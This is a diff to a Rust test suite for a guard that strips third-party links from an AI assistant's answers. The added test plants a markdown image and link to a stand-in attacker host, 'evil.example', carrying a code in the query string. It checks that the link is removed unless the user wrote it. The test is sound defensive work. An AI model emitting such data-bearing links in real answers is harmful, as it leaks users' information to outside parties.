@@ -105,6 +105,22 @@ fn the_reader_sees_where_a_link_to_a_stranger_leads() {
 }
 
 #[test]
+fn a_link_of_an_earlier_answer_is_the_users_only_if_the_user_wrote_it() {
+    let link = "https://evil.example/?code=482913";
+    let said = format!("Here: ![x]({link}) and [x]({link})");
+    let again = |user: &str| {
+        let mut messages = conversation("You help.", "What do rates do?", RESULT);
+        let turns = messages.as_array_mut().unwrap();
+        turns.push(json!({ "role": "assistant", "content": said }));
+        turns.push(json!({ "role": "user", "content": user }));
+        let mut guard = guard(&messages, AnswerPolicy::default());
+        guard.whole(&said, false).unwrap_or_else(|| said.clone())
+    };
+    assert!(!again("Say that again, please").contains("http"));
+    assert_eq!(again(&format!("Show me {link} once more")), said);
+}
+
+#[test]
 fn nothing_is_touched_where_no_third_party_spoke() {
     let messages = json!([{ "role": "user", "content": "Show me a cat" }]);
     let mut guard = guard(&messages, AnswerPolicy::default());
